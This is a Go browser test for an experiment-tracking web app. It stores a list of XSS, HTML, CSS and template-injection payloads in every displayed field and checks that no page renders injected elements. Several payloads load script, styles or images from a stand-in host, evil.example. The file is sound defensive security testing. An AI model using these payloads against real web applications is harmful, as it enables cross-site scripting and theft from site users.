package ui_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"tracker/store/domain"
	"tracker/store/files"
	"tracker/store/projects"
	"tracker/store/registry"
	"tracker/store/runs"
	"tracker/store/scalar"
	"tracker/store/users"
)

// hostile holds texts that try to attack a page. Each would set the marker, request another host,
// or break a script.
var hostile = []string{
	`<script>window.hacked=1</script>`,
	`"><img src=x onerror="window.hacked=2">`,
	`' autofocus onfocus='window.hacked=3' x='`,
	`</bdi></title></textarea></style></pre><svg onload=window.hacked=4>`,
	`</script><script src="https://evil.example/x.js"></script>`,
	`javascript:window.hacked=6//`,
	`x" style="background:url(https://evil.example/7.png)" y="`,
	`};body{background:url(https://evil.example/8.png)}/*<style>@import "https://evil.example/8.css";</style>`,
	`<iframe srcdoc="<script>parent.hacked=9</script>"></iframe><base href="https://evil.example/">`,
	"`);window.hacked=10;//${window.hacked=10}{{constructor.constructor('window.hacked=10')()}}",
	`[x](javascript:window.hacked=11) ![x](https://evil.example/11.png) <https://x.example/"onclick=window.hacked=11>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/12"><form action="https://evil.example/12">`,
	`שלום %s & &lt;script&gt; \u003cscript\u003e %3Cscript%3E \0 ' -- ; ../../x # ? a/b`,
	`__proto__`,
	`constructor`,
}

// bidi changes the direction of the text after it. Texts can contain it; names can't.
const bidi = "\u202egnp.exe\u2066 \u0000\u0007"

// fileName converts a text to a valid artifact name, which is a path.
var fileName = strings.NewReplacer("/", "|", `\`, "|")

// injected counts elements that no page creates itself.
const injected = `(window.hacked === undefined ? '' : 'hacked ' + window.hacked) + [...document.querySelectorAll(
	'script:not([src], [type="application/json"]), img:not([src^="/artifact/"], [src^="http://127.0.0.1:"][src$="/data"]), iframe:not([sandbox="allow-scripts"]), base, object, embed, style, meta[http-equiv], form[action*="evil"], [onerror], [onload], [onfocus], [onclick], [srcdoc], [href^="javascript" i]')]
	.map((e) => e.outerHTML.slice(0, 120)).join('\n')`

// TestHostileText writes hostile texts to every field that is shown, and opens each page.
func TestHostileText(t *testing.T) {
	t.Parallel()
	s := start(t, setup{auth: true})
	ctx, alice := t.Context(), s.actor("alice")
	s.clock.move(time.Since(s.clock.now()))
	b := s.openBrowser(t)
	b.signIn(s, "alice")
	b.do(chromedp.EmulateViewport(1280, 6000)) // charts are drawn when they become visible

	first := must(s.db.Projects.CreateProject(ctx, alice, domain.NewProject{Name: hostile[0], Description: hostile[1]}))(t)
	experiment := must(s.db.Projects.CreateExperiment(ctx, alice, first.ID, projects.NewExperiment{Name: hostile[2], Description: hostile[3]}))(t)
	paths := []string{"/", "/users", "/project/" + first.ID + "/models", "/experiment/" + experiment.ID + "/artifacts", "/project/" + first.ID + "/members", "/change?", "/delete?", "/compare?"}
	var found []string
	for i, bad := range hostile {
		p := must(s.db.Projects.CreateProject(ctx, alice, domain.NewProject{Name: bad, Description: bad + bidi}))(t)
		e := must(s.db.Projects.CreateExperiment(ctx, alice, p.ID, projects.NewExperiment{Name: bad, Description: bad + bidi}))(t)
		u := must(s.db.Users.CreateUser(ctx, alice, users.NewUser{Username: bad, Password: password, FirstName: bad, LastName: bad}))(t)
		must(s.db.Users.CreateUserPermission(ctx, alice, u.ID, first.ID, users.PermissionPatch{}))(t)
		n := runs.NewIteration{Name: new(bad), Notes: bad + bidi + "\n\n<b onclick=window.hacked=1>b</b>\n\n```" + bad + "\n" + bad + "\n```\n"}
		if i > 0 {
			n.ParentIterationID = &found[i-1]
		}
		id := s.run(experiment.ID, n)
		found = append(found, id)
		must(s.db.Runs.CreateTag(ctx, alice, runs.IterationTag, id, bad))(t)
		must(s.db.Runs.CreateTag(ctx, alice, runs.ProjectTag, p.ID, bad))(t)
		must(s.db.Runs.CreateTag(ctx, alice, runs.ExperimentTag, e.ID, bad))(t)
		must(s.db.Runs.CreateParameter(ctx, alice, id, bad, scalar.Text(bad+bidi)))(t)
		must(s.db.Runs.CreateParameter(ctx, alice, id, "lr", scalar.Text(fmt.Sprint(i))))(t)
		must(s.db.Runs.CreateSnapshot(ctx, alice, id, runs.NewSnapshot{GitSHA: bad, GitRemote: bad, GitDiff: bad + bidi, Entrypoint: bad,
			Command: bad, Hostname: bad, Runtime: bad, Dependencies: bad}))(t)
		m := must(s.db.Models.CreateModel(ctx, alice, first.ID, registry.NewModel{Name: bad, Description: bad}))(t)
		must(s.db.Models.CreateModelVersion(ctx, alice, m.ID, registry.NewModelVersion{IterationID: id, Description: bad}))(t)
		content := must(s.db.Files.Receive(ctx, strings.NewReader(bad), ""))(t)
		a := must(s.db.Files.CreateArtifact(ctx, alice, experiment.ID, files.NewArtifact{Name: "a " + fileName.Replace(bad), Description: bad, IterationID: id, ContentType: "text/html"}, content))(t)
		s.log(id, bad, 3+i)
		if i%2 == 1 {
			patch := runs.IterationPatch{Status: new(domain.Failed), ErrorMessage: new(bad + bidi)}
			if err := s.db.Runs.UpdateIteration(ctx, alice, id, patch); err != nil {
				t.Fatal(err)
			}
		}
		q := url.QueryEscape(bad)
		if i%3 == 0 {
			paths = append(paths, "/project/"+p.ID, "/experiment/"+e.ID, "/user/"+u.ID, "/model/"+m.ID, "/artifact/"+a.ID,
				"/project/"+p.ID+"/settings", "/experiment/"+e.ID+"/settings")
		}
		paths = append(paths, "/iteration/"+id, "/project/"+first.ID+"?q="+q,
			"/experiment/"+experiment.ID+"?"+url.Values{"filter": {bad}, "sort": {bad}, "columns": {bad}, "base": {bad}, "hide": {bad},
				"show": {bad}, "zoom": {bad}, "smooth": {bad}, "x": {bad}, "split": {bad}, "axes": {bad}, "sx": {bad}}.Encode()+"#"+q)
	}
	query := "i=" + strings.Join(found, "&i=")
	for _, path := range paths {
		if strings.HasSuffix(path, "?") {
			path += query
		}
		t.Run(path[:min(len(path), 60)], func(t *testing.T) {
			b.t = t
			b.do(chromedp.Navigate(b.url + path))
			if strings.Contains(path, "/iteration/") || strings.Contains(path, "/compare") {
				b.is(chartsDrawn, "true")
			}
			b.is(injected, "")
			b.quiet()
		})
	}
	t.Run("workbench", func(t *testing.T) {
		b.t = t
		b.workHostile("/experiment/" + experiment.ID)
	})
	t.Run("signed out", func(t *testing.T) {
		b := s.openBrowser(t)
		for _, bad := range hostile {
			b.do(chromedp.Navigate(b.url + "/login?next=" + url.QueryEscape("/"+bad)))
			b.is(injected, "")
		}
		b.quiet()
	})
}

// workHostile opens every part in which scripts show names: columns, tooltips, the dialog that
// finds records, error messages, and the actions on runs.
func (b *browser) workHostile(path string) {
	b.t.Helper()
	b.do(chromedp.EmulateViewport(1280, 800), chromedp.Navigate(b.url+path))
	b.is(rows, fmt.Sprint(len(hostile)))
	b.is(chartsDrawn, "true")
	b.do(chromedp.Click(chromedp.CSS(`[data-testid="choose"]`)))
	b.is(`document.querySelectorAll('.choose .found input').length`, fmt.Sprint(2*len(hostile)+1))
	// Every parameter and metric becomes a column.
	b.do(chromedp.Evaluate[chromedp.Void](`for (const box of document.querySelectorAll('.choose .found input')) if (!box.checked) box.click()`))
	b.is(`document.querySelectorAll('#table thead th').length`, fmt.Sprint(6+2*len(hostile)+1))
	b.is(injected, "")
	b.do(chromedp.KeyEvent("\x1b"))
	b.is(dialogOpen, "false")
	b.is(`document.querySelectorAll('#table tbody tr[data-id] td:nth-child(6)').length`, fmt.Sprint(len(hostile)))
	b.do(chromedp.Evaluate[chromedp.Void](`document.querySelector('#table input').click()`))
	b.is(`document.querySelector('#selected').hidden`, "false")
	b.is(injected, "")
	b.pointAt(`[data-testid="chart"][data-drawn="1"] .u-over`, 0.5, `[...document.querySelectorAll('.tip')].some((e) => !e.hidden)`, "true")
	b.is(injected, "")
	for _, bad := range hostile[:6] {
		b.do(chromedp.KeyEvent("k", chromedp.KeyModifiers(chromedp.ModifierCtrl)), chromedp.WaitVisible(chromedp.CSS(`[data-testid="find-name"]`)),
			chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`{ const f = document.querySelector('[data-testid="find-name"]'); f.value = %q; f.dispatchEvent(new Event('input')) }`, bad)))
		b.is(fmt.Sprintf(`[...document.querySelectorAll('.find li bdi')].some((e) => e.textContent === %q)`, bad), "true")
		b.is(injected, "")
		b.do(chromedp.KeyEvent("\x1b"))
		b.is(dialogOpen, "false")
	}
	for _, bad := range hostile[:6] {
		b.filter(b.t, "name = ")
		b.is(wrong+`.querySelector('mark') !== null`, "true")
		b.filter(b.t, bad)
		b.is(`document.querySelector('#filter').getAttribute('aria-invalid')`, "true")
		b.is(injected, "")
	}
	b.quiet()
}
